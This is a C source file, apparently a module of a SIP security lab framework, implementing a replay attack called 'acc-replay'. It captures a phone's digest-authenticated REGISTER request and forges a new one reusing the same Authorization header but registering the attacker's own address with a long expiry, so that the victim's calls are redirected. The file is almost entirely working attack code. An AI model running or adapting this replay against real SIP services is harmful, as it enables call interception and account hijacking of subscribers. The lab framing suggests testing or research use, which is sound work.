/* acc-replay - registers again, elsewhere, what it heard somebody register. */
#include "lab/attacker/strike.h"
#include "lab/auth/digest.h"
#include "lab/base/slice.h"
#include "lab/sip/request.h"
#include "lab/sip/scan.h"
#include "lab/subscribers/provision.h"

typedef struct {
  RdStrikeAim aim;
} Config;

static const RdParam params[] = {RD_STRIKE_ROWS(Config, "1"), RD_PARAM_END};

/* A phone's own REGISTER at its first hop, with an answer to a challenge in it. */
static bool proves(const RdMessage *m) {
  RdDigest d;
  const RdSlice value = rd_sip_value(m->sip, RD_HDR_AUTHORIZATION);
  return m->sip->is_request && m->sip->method == RD_SIP_REGISTER && rd_hop_is_clients(m->sip) &&
         value.at && rd_digest_parse(value, &d) && d.response.len > 0;
}

/* The same credentials in the same registration, but the attacker is where the calls are to go. The digest
 * covers method, URI and nonce alone. */
static size_t write(RdStrikes *s, const RdSip *sip, char *buffer, size_t cap) {
  char branch[RD_SIP_BRANCH];
  rd_strikes_branch(s, sip->call_id, 0, branch);
  RdSipRequest r = {.method = "REGISTER",
                    .local = rd_strikes_own(s),
                    .uri = sip->uri,
                    .branch = rd_slice(branch),
                    .from_uri = sip->from_uri,
                    .from_tag = sip->from_tag,
                    .to_uri = sip->to_uri,
                    .call_id = sip->call_id,
                    .cseq = sip->cseq + 1,
                    .contact_user = sip->contact_at.user,
                    .authorization = rd_sip_value(sip, RD_HDR_AUTHORIZATION),
                    .expires = 600000};
  r.local.transport = RD_UDP;
  return rd_sip_write(&r, buffer, cap);
}

static void intercept(void *self, const RdMessage *m, RdVerdict *verdict) {
  RdStrikes *s = self;
  char buffer[RD_STRIKE_BYTES];
  (void)verdict;
  if (rd_strikes_aim(s)->knows != RD_KNOWS_LINE || !m->sip || !proves(m) || !rd_strike_wanted(s, m))
    return;
  const RdStrike strike = {.source = *rd_hop_source(m),
                           .target = *rd_hop_target(m),
                           .bytes = buffer,
                           .len = write(s, m->sip, buffer, sizeof buffer)};
  rd_strike(s, m, &strike);
}

static void *open_replay(RdHost *host, const void *config, const RdActorSetup *setup) {
  return rd_strikes_new(host, setup, config, NULL);
}

RD_PART(RD_ATTACK, "acc-replay",
        "Registers again, at its own address, what it heard somebody register.",
        RD_CONFIG(Config, params),
        RD_ACTOR_OPS(.open = open_replay, .intercept = intercept, RD_STRIKE_OPS),
        .interface = RD_IF_GM, .family = "acc");
